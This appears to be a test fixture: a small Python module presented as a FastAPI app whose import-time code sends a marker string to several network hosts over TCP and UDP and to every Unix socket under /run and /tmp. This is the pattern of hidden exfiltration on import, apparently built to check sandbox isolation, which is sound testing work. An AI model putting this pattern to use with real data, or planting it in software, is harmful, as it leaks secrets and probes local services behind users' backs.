import contextlib
import glob
import socket

from fastapi import FastAPI

HOME = 27813
for host in ("127.0.0.1", "::1", "localhost", "10.0.0.1", "192.0.2.1", "example.com"):
    with contextlib.suppress(OSError), socket.create_connection((host, HOME), timeout=0.2) as connection:
        connection.sendall(b"secretos")
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        datagram.sendto(b"secretos", (host, HOME))
with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as abstract:
    abstract.connect("\0hostil-en-casa")
    abstract.sendall(b"secretos")
for path in glob.glob("/run/**/*.sock*", recursive=True) + glob.glob("/tmp/**/*.sock", recursive=True):
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as local:
        local.connect(path)
        local.sendall(b"secretos")

app = FastAPI()
